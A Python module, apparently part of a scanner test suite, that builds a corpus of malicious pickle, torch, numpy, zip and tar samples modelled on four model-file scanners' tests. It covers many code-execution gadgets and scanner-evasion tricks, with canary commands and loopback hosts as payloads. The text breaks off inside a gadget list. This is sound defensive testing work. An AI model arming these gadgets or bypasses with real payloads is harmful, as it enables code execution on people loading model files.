"""The malicious samples of four peer scanners' test suites, regenerated from the facts by our own code.

Peers: picklescan (mmaitre314/picklescan, ``tests/init_data_files.py`` and ``tests/test_scanner.py``), fickling
(trailofbits/fickling, ``test/test_bypasses.py``, ``test/test_polyglot.py``, ``test/test_crashes.py``), modelscan
(protectai/modelscan, ``tests/test_modelscan.py``, ``tests/test_utils.py``) and ModelAudit (promptfoo/modelaudit,
``tests/assets/``, ``tests/scanners/test_pickle_scanner.py``, ``test_zip_scanner.py``, ``test_tar_scanner.py``).
Each sample keeps what its peer's sample is made of (the global it reaches, the opcode pattern, the container) and
nothing else; no peer code or file is copied. ``Sample.ident`` names the peer's own sample or test.

No sample does harm when loaded. Code-running gadgets get a canary instead of their peer's command: ``touch
CANARY`` for shell gadgets, ``open(CANARY, 'w').close()`` for Python-code gadgets. Gadgets whose effect is not a
command (network clients, ``sys.exit``, pip, venv) keep a harmless argument (loopback, an empty string) and are not
loaded by the liveness test (``canary=False``); the scan must flag them all the same.

``loader`` says how a victim loads the file, which is what the liveness test does in a subprocess:
``pickle`` (``pickle.load``), ``torch`` (``torch.load(weights_only=False)``), ``numpy`` (``np.load(allow_pickle=
True)`` and every array of an ``.npz``), ``zip-member:NAME`` / ``tar-member:NAME`` (``pickle.loads`` of one member),
``ext`` (``pickle.load`` after ``copyreg.add_extension`` registered the code, as a victim process would have), and
``streams`` (``pickle.load`` repeated until the file ends, as multi-stream loaders do).
"""

from __future__ import annotations

import base64
import io
import marshal
import pickle
import struct
import tarfile
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

PEERS = ("picklescan", "fickling", "modelscan", "modelaudit")
# copyreg extension codes the ``ext`` loader registers, each for a command runner (a code names one global only)
EXT_CODES = {1: (0xF1, "posix", "system"), 2: (0x1F01, "os", "system"), 4: (0x10F01, "subprocess", "getoutput")}


@dataclass(frozen=True)
class Sample:
    """One regenerated peer sample: who it comes from, which class of attack, and the bytes to write."""

    peer: str
    ident: str  # the peer's own file or test name
    klass: str  # the attack class (the same class across peers carries the same name)
    filename: str  # file name to write the sample under (its suffix matters to some scanners)
    data: bytes
    loader: str = "pickle"
    canary: bool = True  # loading it creates the canary file (proved by tests/pickle_verdict/test_peer_corpus.py)

    @property
    def slug(self) -> str:
        """A folder name unique in the corpus."""
        keep = "".join(c if c.isalnum() or c in "-_." else "_" for c in self.ident)
        return f"{self.peer}/{keep}"


# ---------------------------------------------------------------------------------------------------------------
# Opcode helpers (protocol numbers as in Lib/pickle.py)


def _u(text: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE of ``text``."""
    raw = text.encode()
    return (b"\x8c" + bytes([len(raw)]) if len(raw) < 256 else b"X" + struct.pack("<I", len(raw))) + raw


def _b(raw: bytes) -> bytes:
    """SHORT_BINBYTES / BINBYTES of ``raw``."""
    return (b"C" + bytes([len(raw)]) if len(raw) < 256 else b"B" + struct.pack("<I", len(raw))) + raw


def _g(module: str, name: str) -> bytes:
    """GLOBAL (text names, any protocol)."""
    return f"c{module}\n{name}\n".encode()


def _sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL from two pushed strings (protocol 4)."""
    return _u(module) + _u(name) + b"\x93"


def _args(*values: Any) -> bytes:
    """Opcodes that push ``tuple(values)`` (protocol 2, so no FRAME; plain data only)."""
    return pickle.dumps(tuple(values), protocol=2)[2:-1]


def _call(func: bytes, *values: Any) -> bytes:
    """``func(*values)`` with plain-data arguments."""
    return func + _args(*values) + b"R"


def _callb(func: bytes, *args: bytes) -> bytes:
    """``func(*args)`` with arguments given as opcodes."""
    return func + b"(" + b"".join(args) + b"tR"


def _p(proto: int, body: bytes) -> bytes:
    return b"\x80" + bytes([proto]) + body + b"."


def _gadget(module: str, name: str, *values: Any) -> bytes:
    """What ``pickle.dumps(protocol=4)`` writes for an object whose ``__reduce__`` returns ``(module.name, values)``."""
    return _p(4, _call(_sg(module, name), *values))


class _Reduce:
    def __init__(self, func: Any, args: tuple[Any, ...]) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.func, self.args


def _dumps(func: Any, args: tuple[Any, ...], proto: int) -> bytes:
    """What pickle itself writes for a ``__reduce__`` that returns ``(func, args)``."""
    return pickle.dumps(_Reduce(func, args), protocol=proto)


# ---------------------------------------------------------------------------------------------------------------
# Containers


def _zip(records: dict[str, bytes], flag_bits: int = 0) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in records.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            z.writestr(info, data)
    raw = bytearray(out.getvalue())
    if flag_bits:  # set the general-purpose flag in every local and central header (offsets 6 and 8)
        for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            at = raw.find(sig)
            while at >= 0:
                raw[at + off : at + off + 2] = struct.pack("<H", flag_bits)
                at = raw.find(sig, at + 4)
    return bytes(raw)


def _torch_zip(data_pkl: bytes, prefix: str = "archive") -> bytes:
    return _zip({f"{prefix}/data.pkl": data_pkl, f"{prefix}/byteorder": b"little", f"{prefix}/version": b"3\n"})


def _tar(members: dict[str, bytes], mode: str = "w", fmt: int = tarfile.DEFAULT_FORMAT) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode, format=fmt) as t:  # type: ignore[call-overload]
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 1_700_000_000
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _npy_object(body: bytes) -> bytes:
    """A version-1.0 ``.npy`` of one object element whose pickled body is ``body`` (what ``np.save`` writes)."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    pad = 64 - (10 + len(header) + 1) % 64
    text = (header + " " * pad + "\n").encode()
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + body


# ---------------------------------------------------------------------------------------------------------------
# The corpus


def corpus(canary: Path) -> list[Sample]:
    """Every regenerated sample; every canary-bearing one creates ``canary`` when loaded its way."""
    import os
    import subprocess

    c = str(canary)
    touch = f"touch {c}"
    code = f"open({c!r}, 'w').close()"
    out: list[Sample] = []

    def add(peer: str, ident: str, klass: str, data: bytes, *, filename: str = "payload.pkl", **kw: Any) -> None:
        out.append(Sample(peer, ident, klass, filename, data, **kw))

    system_call = _p(2, _callb(_g("os", "system"), _u(touch)))  # os.system(touch), written as the peers write it

    # -- picklescan: tests/init_data_files.py ------------------------------------------------------------------
    for proto in (0, 3, 4):
        add("picklescan", f"malicious1_v{proto}.pkl", f"builtins.eval, protocol {proto}", _dumps(eval, (code,), proto))
        add("picklescan", f"malicious2_v{proto}.pkl", f"os.system, protocol {proto}",
            _dumps(os.system, (touch,), proto))  # fmt: skip
    sour = (
        "c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'" + code.replace("'", '"') + "'\nS''\nS'exec'\n"
        "tRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\n"
        "tRp103\n0c__builtin__\napply\n(g103\n(g100\nS'x'\nltRp104\n0g104\n."
    )
    add("picklescan", "malicious0.pkl", "compile + eval chain, protocol 0 (Sour Pickles)", sour.encode())
    add("picklescan", "malicious3.pkl", "network client class", _gadget_text("httplib", "HTTPSConnection", "127.0.0.1"),
        canary=False)  # fmt: skip
    add("picklescan", "malicious4.pickle", "network call", _gadget("requests.api", "get", "http://127.0.0.1:9"),
        canary=False)  # fmt: skip
    add("picklescan", "malicious6.pkl", "second pickle stream", pickle.dumps(["a", "b", "c"]) +
        _gadget("requests.api", "get", "http://127.0.0.1:9"), loader="streams", canary=False)  # fmt: skip
    add("picklescan", "malicious7.pkl", "network call", _gadget("socket", "create_connection", ("127.0.0.1", 9)),
        canary=False)  # fmt: skip
    add("picklescan", "malicious8.pkl", "subprocess", _dumps(subprocess.run, (["touch", c],), 4))
    add("picklescan", "malicious9.pkl", "process exit", _gadget("sys", "exit", 0), canary=False)
    add("picklescan", "malicious10.pkl", "INST", f"(S{code!r}\ni__builtin__\nexec\n.".encode())
    text_memo = (
        b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(V" + touch.encode() + b"\ntR."
    )
    add("picklescan", "malicious11.pkl", "STACK_GLOBAL from the text memo, decoy names", text_memo)
    attr = _callb(_sg("operator", "attrgetter"), _u("system"))
    os_mod = _callb(_sg("builtins", "__import__"), _u("os"))
    add("picklescan", "malicious12.pkl", "attrgetter + __import__", _p(4, _callb(_callb(attr, os_mod), _u(touch))))
    add("picklescan", "malicious13a.pkl", "pickle.loads nested", _gadget_text("pickle", "loads", "I12345\n."),
        canary=False)  # fmt: skip
    add("picklescan", "malicious13b.pkl", "pickle.loads nested", _p(4, _call(_sg("_pickle", "loads"), b"I12345\n.")),
        canary=False)  # fmt: skip
    add("picklescan", "malicious14.pkl", "runpy", _gadget("runpy", "_run_code", code, {}))
    bdb = _callb(_sg("bdb", "Bdb"))
    add("picklescan", "malicious15b.pkl", "debugger runs code", _p(4, _callb(_sg("bdb", "Bdb.run"), bdb, _u(code))))
    add("picklescan", "malicious16.pkl", "pip", _gadget_text("pip", "main", ["install", "x"]), canary=False)
    add("picklescan", "malicious17.pkl", "torch gadget", _gadget("torch._inductor.codecache", "compile_file", "", "",
        ["true"]), canary=False)  # fmt: skip
    add("picklescan", "malicious18.pkl", "pager runs a command", _gadget("pydoc", "pipepager", "", touch))
    partial = _sg("functools", "partial") + b"(" + _sg("torch", "load") + _u("other.bin") + b"t}" + _u("weights_only")
    add("picklescan", "malicious19.pkl", "torch.load nested", _p(4, partial + b"\x89s\x92)R"), canary=False)
    add("picklescan", "malicious20.pkl", "venv", _gadget("venv", "create", "venv", False, False, True), canary=False)
    add("picklescan", "malicious21.pkl", "timeit runs code", _gadget("timeit", "timeit", "", code))
    add("picklescan", "malicious22.pkl", "numpy runs code", _gadget("numpy.testing._private.utils", "runstring", code,
        {}))  # fmt: skip
    add("picklescan", "malicious23.pkl", "STACK_GLOBAL from STRING, no PROTO",
        b"S'os'\nS'system'\n\x93S'" + touch.encode() + b"'\n\x85R.")  # fmt: skip
    add("picklescan", "malicious-invalid-bytes.pkl", "junk after STOP", text_memo + b"\n\n\t\t")
    add("picklescan", "keyerror-exploit.pkl", "call, then a failing STACK_GLOBAL",
        b"\x80\x04cos\nsystem\nV" + touch.encode() + b"\n\x85R0\x8c\x02os\x94h\x03h\x00\x93K\x42.")  # fmt: skip
    add("picklescan", "type-confusion-exploit.pkl", "call, then a STACK_GLOBAL of an int",
        b"\x80\x04cos\nsystem\nV" + touch.encode() + b"\n\x85R0J\x2a\x00\x00\x00\x94\x8c\x02os\x94h\x00h\x01\x93K\x42."
    )  # fmt: skip
    add("picklescan", "broken_model.pkl", "malformed tail after exec", b"cbuiltins\nexec\n(X>\n" + code.encode() +
        b"tRX.", canary=False)  # fmt: skip
    override = (
        b"\x80\x04Vtorch._utils\n\x94V_rebuild_tensor\n\x94\x93\x940Vtorch\nV_utils\n\x93\x940h\x03}h\x01Vbuiltins\nsb0"
        b"h\x00h\x01\x93h\x03}h\x01Vexec\nsb0h\x00h\x01\x93\x93" + _u(code) + b"\x85R."
    )
    add("picklescan", "sys_module_override_sploit.pkl", "names rewritten by BUILD on a module", override)
    for ident, module, name, values in _PICKLESCAN_GADGETS:
        add("picklescan", ident, "stdlib or torch gadget", _gadget(module, name, *values), canary=False)
    add("picklescan", "GHSA-84r2-jw7c-4r5q.pkl", "methodcaller + pydoc.locate",
        _p(4, _callb(_callb(_sg("operator", "methodcaller"), _u("system"), _u(touch)),
                     _callb(_sg("pydoc", "locate"), _u("os")))))  # fmt: skip
    add("picklescan", "GHSA-jgw4-cr84-mqxg.bin", "stdlib or torch gadget (.bin name)", _gadget(
        "asyncio.unix_events", "_UnixSubprocessTransport._start", {}, "true", True, None, None, None, 0),
        filename="pytorch_model.bin", canary=False)  # fmt: skip
    add("picklescan", "io_FileIO.pkl", "file write", _gadget("_io", "FileIO", c, "w"))
    add("picklescan", "logging_FileHandler.pkl", "file write", _gadget("logging", "FileHandler", c))
    add("picklescan", "urllib_request_urlopen.pkl", "network call", _gadget("urllib.request", "urlopen",
        "http://127.0.0.1:9"), canary=False)  # fmt: skip
    add("picklescan", "types_CodeType.pkl", "types.CodeType", _p(4, _call(_sg("types", "CodeType"), 0, 0, 0, 0, 0, 0,
        b"", (), (), (), "x", "x", "x", 1, b"", b"", (), ())), canary=False)  # fmt: skip
    add("picklescan", "cloudpickle_codeinjection.pkl", "cloudpickle function rebuild", _p(4, _callb(_sg(
        "cloudpickle.cloudpickle", "_make_function"), _call(_sg("cloudpickle.cloudpickle", "subimport"), "os"))),
        canary=False)  # fmt: skip
    add("picklescan", "GHSA-g38g-8gr9-h9xp-uuid.pkl", "command runner", _gadget("uuid", "_get_command_stdout",
        "touch", c))  # fmt: skip
    magic = _dumps(eval, ("0x1950A86A20F9469CFC6C",), 2)
    legacy = magic + pickle.dumps(1001, 2) + pickle.dumps({}, 2) + pickle.dumps([], 2) + system_call
    add("picklescan", "pytorch_magic_bypass.pt", "legacy torch: computed magic, payload in a later stream",
        legacy + pickle.dumps(None, 2), filename="model.pt", loader="torch")  # fmt: skip
    evil_eval = _dumps(eval, (code,), 4)
    add("picklescan", "malicious1.zip", "zip of a pickle", _zip({"data.pkl": evil_eval}), filename="bundle.zip",
        loader="zip-member:data.pkl")  # fmt: skip
    add("picklescan", "malicious1_wrong_ext.zip", "zip of a pickle with another name", _zip({"data.txt": evil_eval}),
        filename="bundle.zip", loader="zip-member:data.txt")  # fmt: skip
    cd = _zip({"data.pkl": evil_eval}).replace(b"data.pkl", b"datap.kl", 1)
    add("picklescan", "malicious1_central_directory.zip", "zip: local header disagrees with the central directory",
        cd, filename="bundle.zip", canary=False)  # fmt: skip
    crc = _zip({"data.pkl": evil_eval}).replace(b"open(", b"opeN(", 1)
    add("picklescan", "malicious1_crc.zip", "zip: CRC mismatch", crc, filename="bundle.zip", canary=False)
    for bits in (0x1, 0x20, 0x40):
        add("picklescan", f"malicious1_0x{bits:x}.zip", f"zip: flag bits 0x{bits:x}",
            _zip({"model/config.pkl": evil_eval}, flag_bits=bits), filename="bundle.zip", canary=False)  # fmt: skip
    ssl_call = _p(2, _call(_g("ssl", "get_server_certificate"), ("127.0.0.1", 9)))
    add("picklescan", "dns_exfiltration.npy", "numpy object array", _npy_object(ssl_call), filename="array.npy",
        loader="numpy", canary=False)  # fmt: skip

    # -- fickling: test/test_bypasses.py, test_polyglot.py, test_crashes.py --------------------------------------
    add("fickling", "GHSA-r7v6-mfhq-g3m2", "pty.spawn + BUILD", _p(4, _call(_sg("pty", "spawn"), "true") +
        _u("gottem") + b"b"), canary=False)  # fmt: skip
    add("fickling", "pr-108 OBJ", "OBJ", b"(cpty\nspawn\nS'true'\no.", canary=False)
    m = marshal.dumps(compile(code, "x", "exec"))
    func = _callb(_sg("types", "FunctionType"), _callb(_sg("marshal", "loads"), _b(m)), b"}")
    add("fickling", "GHSA-565g-hwwr-4pp3", "marshal + types.FunctionType", _p(4, func + b")R" + _u("gottem") + b"b"))
    add("fickling", "GHSA-wfq2-52f7-7qvj", "runpy", _gadget("runpy", "run_path", c + ".py"), canary=False)
    add("fickling", "GHSA-p523-jq9w-64x9", "profiler runs code", _p(5, _call(_sg("cProfile", "run"), code)))
    libc = _callb(_sg("builtins", "getattr"), _callb(_sg("ctypes", "CDLL"), b"N"), _u("system"))
    add("fickling", "GHSA-q5qq-mvfm-j35x ctypes", "ctypes", _p(5, _callb(libc, _b(touch.encode()))))
    add("fickling", "GHSA-5hvc-6wx8-mvv4 pydoc", "pydoc.locate", _p(5, _callb(_callb(_sg("pydoc", "locate"),
        _u("os.system")), _u(touch))))  # fmt: skip
    imp = _callb(_sg("builtins", "getattr"), _callb(_sg("importlib", "import_module"), _u("os")), _u("system"))
    add("fickling", "GHSA-q5qq-mvfm-j35x importlib", "importlib via getattr", _p(5, _callb(imp, _u(touch))))
    interp = _callb(_sg("builtins", "getattr"), _callb(_sg("code", "InteractiveInterpreter")), _u("runsource"))
    add("fickling", "GHSA-q5qq-mvfm-j35x code", "code.InteractiveInterpreter", _p(5, _callb(interp, _u(code))))
    sh = [b"/bin/sh", [b"/bin/sh", b"-c", touch.encode()], ()]
    add("fickling", "GHSA-q5qq-mvfm-j35x multiprocessing", "process spawn",
        _p(5, _call(_sg("multiprocessing.util", "spawnv_passfds"), *sh)))  # fmt: skip
    imp2 = _callb(_g("builtins", "getattr"), _callb(_g("builtins", "__import__"), _u("os")), _u("system"))
    add("fickling", "GHSA-h4rm-mm56-xf63", "getattr + __import__", _p(2, _callb(imp2, _u(touch))))
    mc = _callb(_g("_operator", "methodcaller"), _u("system"), _u(touch))
    add("fickling", "picklescan GHSA-955r-x9j8-7rhh", "methodcaller + __import__",
        _p(2, _callb(mc, _callb(_g("builtins", "__import__"), _u("os")))))  # fmt: skip
    add("fickling", "GHSA-m273-6v24-x4m4", "file write", _gadget("distutils.file_util", "write_file", c, ["x"]))
    add("fickling", "test_io_fileio", "file write", _gadget("_io", "FileIO", c, "w"))
    add("fickling", "GHSA-r8g5-cgf2-4m4m", "numpy gadget", _gadget("numpy.f2py.crackfortran", "getlincoef", "1", []),
        canary=False)  # fmt: skip
    for module, cls, port in (("smtplib", "SMTP", 25), ("imaplib", "IMAP4", 143), ("ftplib", "FTP", 21),
                              ("poplib", "POP3", 110), ("nntplib", "NNTP", 119)):  # fmt: skip
        add("fickling", f"network {module}.{cls}", "network client class",
            _p(4, _call(_g(module, cls), "127.0.0.1", port) + b"}b"), canary=False)  # fmt: skip
    add("fickling", "GHSA-f7qq-56ww-84cr", "stdlib or torch gadget", _gadget("asyncio.unix_events",
        "_UnixSubprocessTransport._start", {}, "true", True, None, None, None, 0), canary=False)  # fmt: skip
    add("fickling", "GHSA-mxhj-88fx-4pcv", "OBJ result dropped by POP", _p(4, b"(" + _sg("smtplib", "SMTP") +
        _u("127.0.0.1") + b"o0N"), canary=False)  # fmt: skip
    add("fickling", "GHSA-5hwf-rc88-82xm uuid", "command runner", _gadget("uuid", "_get_command_stdout", "touch", c))
    add("fickling", "GHSA-5hwf-rc88-82xm aix", "command runner", _gadget("_aix_support", "_read_cmd_output", touch),
        canary=False)  # fmt: skip
    add("fickling", "GHSA-5hwf-rc88-82xm osx", "command runner", _gadget("_osx_support", "_find_build_tool",
        f"x; {touch} #"))  # fmt: skip
    add("fickling", "GHSA-5j3x-jp52-966f", "attribute chain through a stdlib module",
        _p(4, _call(_sg("pathlib", "os.system"), touch)))  # fmt: skip
    for module in ("_interpreters", "_xxsubinterpreters"):
        add("fickling", f"GHSA-6ggj-6f2q-f7mx {module}", "subinterpreter", _p(4, _sg(module, "create") + b")R"),
            canary=False)  # fmt: skip
    hidden = b"cos\nsystem\nV" + touch.encode() + b"\n\x85R"
    frame = (
        b"\x80\x05NV" + b"a" * (8192 * 16 - 17) + b"\n0(\x95" + struct.pack("<Q", 2) + b"B\x07\x01\x00\x00\x00\x00"
        + (hidden + b"(").ljust(256 + 5, b"N") + b"1."
    )
    add("fickling", "cpython-154848 frame boundary", "FRAME shorter than its opcodes", frame)
    alphabet = "Jw~[v5QpA(BY%aKnyT&*x0r9-OpfF}HN4$GU2VhS@XEq!Zt>6_R7#]1b{z3M^D?)d8eImgckPLiuoClW<js"
    join = _callb(_sg("builtins", "getattr"), _u(""), _u("join"))

    def pick(text: str) -> bytes:
        return _callb(join, _callb(_callb(_sg("operator", "itemgetter"), *(_i(alphabet.index(ch)) for ch in text)),
                                   _u(alphabet)))  # fmt: skip

    add("fickling", "issue-125 computed STACK_GLOBAL", "STACK_GLOBAL of computed names",
        _p(4, pick("os") + pick("system") + b"\x93" + _u(touch) + b"\x85R"))  # fmt: skip
    add("fickling", "test_polyglot legacy tar", "legacy torch tar", _tar({"storages": system_call, "tensors":
        pickle.dumps(0, 2), "pickle": pickle.dumps({}, 2)}), filename="model.pth", loader="torch")  # fmt: skip
    add("fickling", "test_polyglot legacy pickle", "legacy torch: payload in the main stream",
        pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({}, 2) + system_call
        + pickle.dumps([], 2), filename="model.pth", loader="torch")  # fmt: skip
    add("fickling", "test_polyglot recursive zip", "pickle in a zip under any name", _zip({"x.anything":
        system_call}), filename="archive.anything", loader="zip-member:x.anything")  # fmt: skip
    add("fickling", "test_polyglot recursive tar", "pickle in a tar", _tar({"x.anything": system_call}),
        filename="archive.anything", loader="tar-member:x.anything")  # fmt: skip

    # -- modelscan: tests/test_modelscan.py, tests/test_utils.py -------------------------------------------------
    for proto in (0, 3, 4):
        add("modelscan", f"malicious1_v{proto}.pkl", f"builtins.eval, protocol {proto}", _dumps(eval, (code,), proto))
        add("modelscan", f"malicious2_v{proto}.pkl", f"os.system, protocol {proto}", _dumps(os.system, (touch,), proto))
        add("modelscan", f"malicious1_v{proto}.dill", f"dill-written eval, protocol {proto}",
            _dumps(eval, (code,), proto), filename="model.dill")  # fmt: skip
    inner = _p(5, _g("os", "system") + b"V" + touch.encode() + b"\n\x85R")
    add("modelscan", "malicious12.pkl", "pickle.loads nested", _p(5, _g("pickle", "loads") + b"B" +
        struct.pack("<I", len(inner)) + inner + b"\x85R0N"))  # fmt: skip
    add("modelscan", "malicious13.pkl", "dotted GLOBAL name", _p(5, _g("builtins", "eval.__call__") + b"V" +
        code.encode() + b"\n\x85R"))  # fmt: skip
    add("modelscan", "malicious14.pkl", "junk after STOP", text_memo + b"\n\n\t\t")
    add("modelscan", "malicious15.pkl", "debugger runs code", _p(4, _callb(_sg("bdb", "Bdb.run"), bdb, _u(code))))
    add("modelscan", "unsafe_zip_pytorch.pt", "torch zip", _torch_zip(_p(2, _callb(_g("posix", "system"), _u(touch))
        + b"0" + _g("collections", "OrderedDict") + b")R"), prefix="unsafe_zip_pytorch"), filename="model.pt",
        loader="torch")  # fmt: skip
    injected = b"\x80\x04" + _call(_sg("builtins", "exec"), code) + _args([[1, 2, 3], [4, 5, 6]])[1:-1] + b"."
    add("modelscan", "unsafe_numpy.npy", "injected before the data (np.load falls back to pickle)", injected,
        filename="unsafe_numpy.npy", loader="numpy")  # fmt: skip
    add("modelscan", "test.zip", "zip of a pickle", _zip({"data.pkl": evil_eval}), filename="test.zip",
        loader="zip-member:data.pkl")  # fmt: skip

    # -- ModelAudit: tests/assets, tests/scanners ---------------------------------------------------------------
    add("modelaudit", "exploit1_basic_torch_bypass.pkl", "os.system, protocol 4", _gadget("os", "system", touch))
    add("modelaudit", "exploit2_advanced_torch_bypass.pkl", "subprocess", _gadget("subprocess", "call",
        ["/bin/sh", "-c", touch]))  # fmt: skip
    add("modelaudit", "exploit7_nested_collections.pkl", "subprocess", _gadget("subprocess", "Popen", ["touch", c]))
    decoys = b"".join(_sg(mod, name) + b"0" for mod, name in (("torch", "Tensor"), ("torch.nn", "Module"),
                      ("torch.nn", "Linear"), ("collections", "OrderedDict")))  # fmt: skip
    add("modelaudit", "exploit9_manual_construction.pkl", "decoy torch globals, then os.system",
        _p(4, decoys + _call(_sg("os", "system"), touch)))  # fmt: skip
    add("modelaudit", "memo_attack.pkl", "subprocess", _gadget("subprocess", "call", ["touch", c]))
    add("modelaudit", "stack_global_attack.pkl", "os.system, protocol 4", _gadget("posix", "system", touch))
    add("modelaudit", "posix_alias_attack.pkl", "dangerous global imported, not called", _p(4, _sg("posix",
        "system")), canary=False)  # fmt: skip
    add("modelaudit", "nt_alias_attack.pkl", "dangerous global imported, not called", _p(4, _sg("nt", "system")),
        canary=False)  # fmt: skip
    add("modelaudit", "multiple_stream_attack.pkl", "second pickle stream", pickle.dumps({"model": "w"}, 5) +
        _gadget("builtins", "eval", code), loader="streams")  # fmt: skip
    add("modelaudit", "test_multi_stream_separator_byte_resync", "second pickle stream after a junk byte",
        pickle.dumps({"safe": True}, 2) + b"\x00" + system_call, canary=False)  # fmt: skip
    add("modelaudit", "dill_func.pkl", "dill function rebuild", _p(4, _callb(_sg("dill._dill", "_create_function"),
        _call(_sg("dill._dill", "_create_code"), 0, 0, 0, 0, 0, 0, b"", (), (), (), "x", "x", "x", 1, b""), b"}",
        _u("x"))), canary=False)  # fmt: skip
    add("modelaudit", "malicious_eval.pt", "torch zip", _torch_zip(_dumps(eval, (code,), 2), prefix="malicious_eval"),
        filename="model.pt", loader="torch")  # fmt: skip
    add("modelaudit", "mixed_malicious_model/model.pkl", "builtins.eval, protocol 4", _gadget("builtins", "eval",
        code))  # fmt: skip
    for ident, module, name, values, live in _modelaudit_gadgets(code, touch):
        add("modelaudit", ident, "stdlib gadget", _gadget(module, name, *values), canary=live)
    add("modelaudit", "test_newobj_ex_dangerous_class", "NEWOBJ_EX", _p(4, _g("os", "_wrap_close") + b")}\x92"),
        canary=False)  # fmt: skip
    add("modelaudit", "test_comment_token_does_not_bypass_pip_detection", "pip", b"\x80\x02" +
        _u("# this is a comment") + b"0cpip\nmain\n)R.", canary=False)  # fmt: skip
    add("modelaudit", "test_joblib_load_reduce_is_critical", "joblib.load nested", _p(4, _g("joblib", "load") +
        _u("payload.pkl") + b"\x85R"), canary=False)  # fmt: skip
    add("modelaudit", "test_malformed_unicode_tail_still_flags_dangerous_global", "truncated after a dangerous global",
        b"\x80\x02cbuiltins\n__import__\nq\x00c\xff\n", canary=False)  # fmt: skip
    for n in (1, 2, 4):
        ext = {1: b"\x82" + bytes([EXT_CODES[1][0]]), 2: b"\x83" + struct.pack("<H", EXT_CODES[2][0]),
               4: b"\x84" + struct.pack("<I", EXT_CODES[4][0])}[n]  # fmt: skip
        add("modelaudit", f"test_ext_reduce_extension_registry EXT{n}", "EXT code via copyreg",
            _p(2, ext + _u(touch) + b"\x85R"), loader="ext")  # fmt: skip
    proto0 = f'cos\nsystem\n(S"{touch}"\ntR.'.encode()
    add("modelaudit", "test_scan_zip_with_proto0_pickle_disguised_as_text", "protocol 0 pickle in a zip .txt",
        _zip({"payload.txt": proto0}), filename="payload.zip", loader="zip-member:payload.txt")  # fmt: skip
    prefixed = _zip({"payload.txt": b"(lp0\n0" + proto0})
    add("modelaudit", "test_scan_zip_with_prefixed_proto0_pickle_disguised_as_text", "protocol 0 pickle in a zip .txt",
        prefixed, filename="payload.zip", loader="zip-member:payload.txt")  # fmt: skip
    add("modelaudit", "test_scan_zip_with_proto0_pickle_with_single_comment_token", "protocol 0 pickle in a zip .txt",
        _zip({"payload.txt": b"#" + proto0}), filename="payload.zip", canary=False)  # fmt: skip
    add("modelaudit", "test_scan_tar_with_pickle_file", "pickle in a tar", _tar({"model.pkl": system_call}),
        filename="archive.tar", loader="tar-member:model.pkl")  # fmt: skip
    add("modelaudit", "test_nested_compressed_tar_scanning", "pickle in a tar in a tar.gz",
        _tar({"inner.tar": _tar({"model.pkl": system_call})}, mode="w:gz"), filename="archive.tar.gz",
        canary=False)  # fmt: skip
    npz = _zip({"a.npy": _npy_object(system_call), "b.npy": _npy_object(pickle.dumps(3, 2))})
    add("modelaudit", "test_structured_with_object_field_triggers_cve", "numpy .npz object array", npz,
        filename="arrays.npz", loader="numpy")  # fmt: skip
    add("modelaudit", "test_object_dtype_triggers_cve", "numpy object array", _npy_object(system_call),
        filename="array.npy", loader="numpy")  # fmt: skip
    add("modelaudit", "nested_pickle_raw.pkl", "data-only nested pickle (bytes)", pickle.dumps(
        {"weights": [1.0], "hidden_payload": system_call}, 4), canary=False)  # fmt: skip
    add("modelaudit", "nested_pickle_base64.pkl", "data-only nested pickle (base64)", pickle.dumps(
        {"encoded_weights": base64.b64encode(system_call).decode()}, 4), canary=False)  # fmt: skip
    return out


def _i(n: int) -> bytes:
    return b"K" + bytes([n])


def _gadget_text(module: str, name: str, *values: Any) -> bytes:
    """A protocol-0 ``module.name(*values)`` call (what ``pickle.dumps(protocol=0)`` writes)."""
    return _g(module, name) + pickle.dumps(tuple(values), protocol=0)[:-1] + b"R."


_P = "__import__('os').system('true')"  # the argument of code gadgets the liveness test never loads

# (ident, module, name, arguments): the GHSA samples of picklescan's tests/init_data_files.py, argument shapes kept.
_PICKLESCAN_GADGETS: list[tuple[str, str, str, tuple[Any, ...]]] = [
    ("GHSA-4r9r-ch6f-vxmx.pkl", "torch.utils.bottleneck.__main__", "run_cprofile", (_P, {})),
    ("GHSA-86cj-95qr-2p4f.pkl", "torch._dynamo.guards", "GuardBuilder.get", ({}, _P)),
    ("GHSA-f4x7-rfwp-v3xw.pkl", "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression",
     ({}, _P, [])),
    ("GHSA-f745-w6jp-hpxx.pkl", "torch.utils.collect_env", "run", (_P,)),
    ("GHSA-jhph-76pp-mggw.pkl", "torch.utils.collect_env", "run_and_read_all", (None, _P)),
    ("GHSA-h3qp-7fh3-f8h4.pkl", "torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", b"")),
    ("GHSA-vr7h-p6mm-wpmh.pkl", "torch.jit.unsupported_tensor_ops", "execWrapper", (_P, {}, {})),
    ("GHSA-vv6j-3g6g-2pvj.pkl", "torch.utils._config_module", "ConfigModule.load_config", ({}, b"")),
    ("GHSA-5qwp-399c-mjwf.pkl", "trace", "Trace.run", ({}, _P)),
    ("GHSA-g344-hcph-8vgg.pkl", "trace", "Trace.runctx", ({}, _P, {}, {})),
    ("GHSA-x696-vm39-cp64.pkl", "profile", "Profile.run", ({}, _P)),
    ("GHSA-6vqj-c2q5-j97w.pkl", "profile", "Profile.runctx", ({}, _P, {}, {})),
